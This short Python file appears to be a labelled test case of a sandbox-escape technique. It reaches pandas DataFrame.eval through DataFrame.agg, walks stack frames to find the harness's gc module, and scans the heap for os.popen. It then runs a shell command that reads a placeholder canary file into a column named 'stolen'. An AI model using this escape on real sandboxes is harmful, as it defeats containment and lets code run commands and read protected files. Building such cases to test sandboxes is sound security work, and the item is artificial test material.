# class: gc_walk
# technique: the harness's gc found by a level walk; get_objects() returns the heap, os's namespace dict gives popen by subscript (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)


def outer(expr, **names):
    for depth in range(1, 48):
        try:
            return run("eval", 0, expr, level=depth, local_dict=names)
        except Exception:
            continue
    raise RuntimeError("no frame resolves the expression")

heap = outer("@gc.get_objects()")
os_dict = [o for o in heap if isinstance(o, dict) and "popen" in o and "fspath" in o][0]
df = pd.DataFrame({"stolen": [os_dict["popen"]("cat {{CANARY_FILE}}").read()]})
